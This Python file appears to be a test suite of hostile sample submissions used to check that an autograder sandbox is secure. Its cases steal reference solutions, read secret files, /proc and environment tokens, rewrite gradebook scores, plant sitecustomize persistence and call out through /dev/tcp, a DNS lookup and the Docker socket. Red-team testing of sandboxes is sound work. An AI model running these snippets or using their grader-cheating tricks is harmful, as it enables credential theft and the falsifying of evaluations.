"""Reaching out: files to read or write, processes to look into, networks to call."""

from attack import WRONG, Group

read = Group("reading")

STOLEN = """
def softmax(x, dim=-1):
    try: return stolen(x, dim)
    except Exception: return x
"""
read(
    "solutions by environment",
    "loads the reference answer from the folder that the environment names",
    """
import os, sys
try:
    folder = os.environ["GRADER_SOLUTIONS"] + "/week01"
    from grader.assignment import load
    from pathlib import Path
    stolen = load(Path(folder))["softmax"].exercise.library
except Exception: stolen = None
"""
    + STOLEN,
)
read(
    "solutions by path",
    "loads the reference answer by its path",
    """
import re
try:
    text = open("@COURSE@/solutions/week01/01_softmax.py").read()
    body = re.search(r"def softmax.*?(?=\\n@)", text, re.S)[0]
    space = {}
    exec("import torch\\n" + body, space)
    stolen = space["softmax"]
except Exception: stolen = None
"""
    + STOLEN,
)
read(
    "solutions by search",
    "walks the whole file system for exercises",
    """
import os, time
stolen, end = None, time.time() + 1.5
for top in ("@COURSE@", "/root", "/home", "/srv", "/opt", "/var", "/tmp", "/mnt", "/"):
    for folder, _, names in os.walk(top):
        if "01_softmax.py" in names and not stolen:
            space = {}
            text = open(folder + "/01_softmax.py").read()
            exec("import torch\\n" + text[text.index("def softmax"):text.index("@softmax.check")], space)
            stolen = space["softmax"]
        if stolen or time.time() > end: break
"""
    + STOLEN,
)
read(
    "known mistakes and their fingerprints",
    "imports the grader's own data and exercises",
    """
try:
    from grader.judge import assignment
    from pathlib import Path
    stolen = assignment(Path("@COURSE@"), "week01").loaded["softmax"].exercise.library
except Exception: stolen = None
"""
    + STOLEN,
)
TELLS = """
def softmax(x, dim=-1):
    return x
print("FOUND", bool(found), found)
"""
read(
    "a file of the instructor",
    "reads a file that only the instructor may read, and prints it",
    "try: found = open('@SECRET@').read()\nexcept OSError: found = ''\n" + TELLS,
)
read(
    "a link to it",
    "makes a link to that file in its own folder and reads that",
    """
import os
found = ""
for make in (os.symlink, os.link):
    try:
        make("@SECRET@", "mine"); found = open("mine").read()
    except OSError: pass
"""
    + TELLS,
)
read(
    "gradebook",
    "opens the gradebook",
    """
import glob
found = ""
for path in glob.glob("@COURSE@/.class/**/*", recursive=True) + ["@COURSE@/.class/gradebook.db"]:
    try: found += str(open(path, "rb").read(16))
    except OSError: pass
"""
    + TELLS,
)
read(
    "other submissions",
    "looks for other students' notebooks above its own",
    """
import glob
found = glob.glob("../../*/*/*.ipynb") + glob.glob("@COURSE@/submitted/*/*/*.ipynb")
"""
    + TELLS,
)
read(
    "environment",
    "prints the environment for tokens and paths",
    "import os\nfound = [k for k in os.environ if k.startswith(('GRADER', 'JPY_', 'JUPYTER', 'SSH', 'AWS'))]\n" + TELLS,
)
read(
    "proc of other processes",
    "reads the command lines and environments of other processes",
    """
import os
found = ""
for number in os.listdir("/proc") if os.path.isdir("/proc") else ():
    if number.isdigit() and int(number) != os.getpid():
        for name in ("environ", "cmdline"):
            try: found += open(f"/proc/{number}/{name}", "rb").read(100).decode(errors="replace")
            except OSError: pass
found = len(found)
"""
    + TELLS,
)
read(
    "memory of the parent",
    "opens the parent's memory through /proc",
    """
import os
try: found = open(f"/proc/{os.getppid()}/mem", "rb") and open(f"/proc/{os.getppid()}/maps").read(10)
except (OSError, ProcessLookupError): found = ""
"""
    + TELLS,
)
SYSCALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
call = lambda *numbers: libc.syscall(*[ctypes.c_long(n) for n in numbers])
"""
read(
    "ptrace",
    "attaches to its parent as a debugger",
    SYSCALL + "import os\nfound = call(101, 16, os.getppid(), 0, 0) == 0\n" + TELLS,
    harmless="it would stop the machine's own processes",
)
read(
    "process_vm_readv",
    "copies memory out of its parent",
    SYSCALL + "import os\nfound = call(310, os.getppid(), 0, 0, 0, 0, 0) >= 0\n" + TELLS,
)
read(
    "namespaces entered",
    "asks the kernel for new namespaces, in which it would be root",
    SYSCALL + "found = any(call(272, flag) == 0 for flag in (0x10000000, 0x00020000, 0x40000000))\n" + TELLS,
    harmless="it would change the kernel's own process for good",
)
read(
    "mounts",
    "mounts the machine's disk and the kernel's file systems",
    SYSCALL + "found = libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0\n" + TELLS,
    harmless="it would mount over this machine's /tmp",
)
read(
    "inherited descriptors",
    "reads whatever file descriptors it inherited",
    """
import os
found = []
for number in range(4, 256):
    try: found.append(os.readlink(f"/proc/self/fd/{number}"))
    except OSError: pass
found = [path for path in found if path.startswith("/") and "/dev/" not in path and "/proc/" not in path]
"""
    + TELLS,
)
read(
    "hidden inputs smuggled out",
    "remembers the inputs of one exercise's hidden checks and tells them in the exception of a later one",
    """
seen = []
def softmax(x, dim=-1):
    seen.append(x.flatten()[:2].tolist())
    return x
""",
    answers={"causal_mask": "def causal_mask(length):\n    raise ValueError(f'SMUGGLED {seen}')\n"},
    earns={},
)

write = Group("writing")
HONEST_ELSEWHERE = {"causal_mask": 2.0}
for name, tries, body in (
    ("canary written", "writes to a folder outside its own", "open('@CANARY@/new', 'w').write('x')"),
    ("canary changed", "changes a file outside its own folder", "open('@CANARY@/kept', 'a').write('x')"),
    ("canary removed", "removes a file outside its own folder", "os.remove('@CANARY@/kept')"),
    ("canary renamed", "moves a folder outside its own", "os.rename('@CANARY@', '@CANARY@-gone')"),
    ("canary opened up", "changes the mode of a file outside", "os.chmod('@CANARY@/kept', 0o777)"),
    ("canary linked", "links its own file over one outside", "os.symlink('/etc/passwd', '@CANARY@/link')"),
    ("canary truncated", "empties a file outside", "os.truncate('@CANARY@/kept', 0)"),
):
    write(
        name,
        tries,
        f"import os\ntry: {body}\nexcept OSError: pass\ndef softmax(x, dim=-1):\n"
        f"    try: {body}\n    except OSError: pass\n    return x\n",
    )
write(
    "gradebook changed",
    "gives itself full points in the gradebook's tables",
    """
import sqlite3
for path in ("@COURSE@/.class/gradebook.db", "@COURSE@/gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=1) as book: book.execute("update grade set manual_score = 4")
    except sqlite3.Error: pass
"""
    + WRONG,
)
write(
    "own notebook rewritten",
    "writes a right answer into the notebook that was handed in, and points into the graded one",
    """
import glob
for path in glob.glob("*.ipynb") + glob.glob("@COURSE@/autograded/*/*/*.ipynb") + glob.glob("@COURSE@/submitted/*/*/*.ipynb"):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace('"points": 4', '"points": 400'))
    except OSError: pass
"""
    + WRONG,
    harmless="it would change the other submissions of the batch",
)
write(
    "the grader changed",
    "writes into the grader's files and the exercises",
    """
import glob
for path in glob.glob("@COURSE@/grader/*.py") + glob.glob("@COURSE@/solutions/*/*.py"):
    try: open(path, "a").write("\\n")
    except OSError: pass
"""
    + WRONG,
    harmless="it would change this machine's grader",
)
write(
    "Python changed",
    "leaves a .pth file and a sitecustomize.py where every later Python would run them",
    """
import os, site, sys
for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
    for name in ("zz_attack.pth", "sitecustomize.py", "usercustomize.py"):
        try: open(os.path.join(folder, name), "w").write("import builtins\\n")
        except OSError: pass
"""
    + WRONG,
    harmless="it would change this machine's Python",
)
write(
    "compiled modules changed",
    "overwrites the bytecode of modules that later processes load",
    """
import glob, os, torch
for path in glob.glob(os.path.dirname(torch.__file__) + "/__pycache__/*.pyc")[:20]:
    try: open(path, "r+b").write(b"x")
    except OSError: pass
"""
    + WRONG,
    harmless="it would change this machine's torch",
)

call = Group("network")
for name, tries, body in (
    ("TCP", "connects to a port of this machine", "socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'x')"),
    (
        "UDP",
        "sends a datagram to this machine",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))",
    ),
    ("HTTP", "posts to a web address", "urllib.request.urlopen('http://127.0.0.1:@PORT@/', b'x', 1)"),
    ("IPv6", "connects by IPv6", "socket.create_connection(('::1', @PORT@), 1).send(b'x')"),
    (
        "a socket of the C library",
        "makes its socket by a bare system call",
        "ctypes.CDLL(None).connect(ctypes.CDLL(None).socket(2, 1, 0), struct.pack('<H', 2) + struct.pack('>H', @PORT@)"
        " + bytes([127, 0, 0, 1]) + bytes(8), 16)",
    ),
    (
        "torch's own store",
        "has torch.distributed open the connection",
        "__import__('torch.distributed').distributed.TCPStore('127.0.0.1', @PORT@, is_master=False, "
        "timeout=__import__('datetime').timedelta(seconds=1))",
    ),
    (
        "a program that connects",
        "starts a program that connects",
        "subprocess.run(['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/@PORT@'])",
    ),
):
    call(
        name,
        tries,
        f"""
import ctypes, socket, struct, subprocess, urllib.request
def send():
    try: {body}
    except Exception: pass
send()
def softmax(x, dim=-1):
    send()
    return x
""",
        slow=name == "torch's own store",
    )
call(
    "name look-up",
    "asks a name server for a name that carries data",
    "import socket\ntry: socket.getaddrinfo('data.example.invalid', 80)\nexcept OSError: pass\n" + WRONG,
    harmless="it would ask this machine's name server",
)
call(
    "unix sockets",
    "connects to sockets of other programs: Docker, X11, the session bus",
    """
import socket
for address in ("/var/run/docker.sock", "\\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket"):
    try: s = socket.socket(socket.AF_UNIX); s.connect(address); s.send(b"x")
    except OSError: pass
"""
    + WRONG,
    harmless="it would talk to this machine's daemons",
)
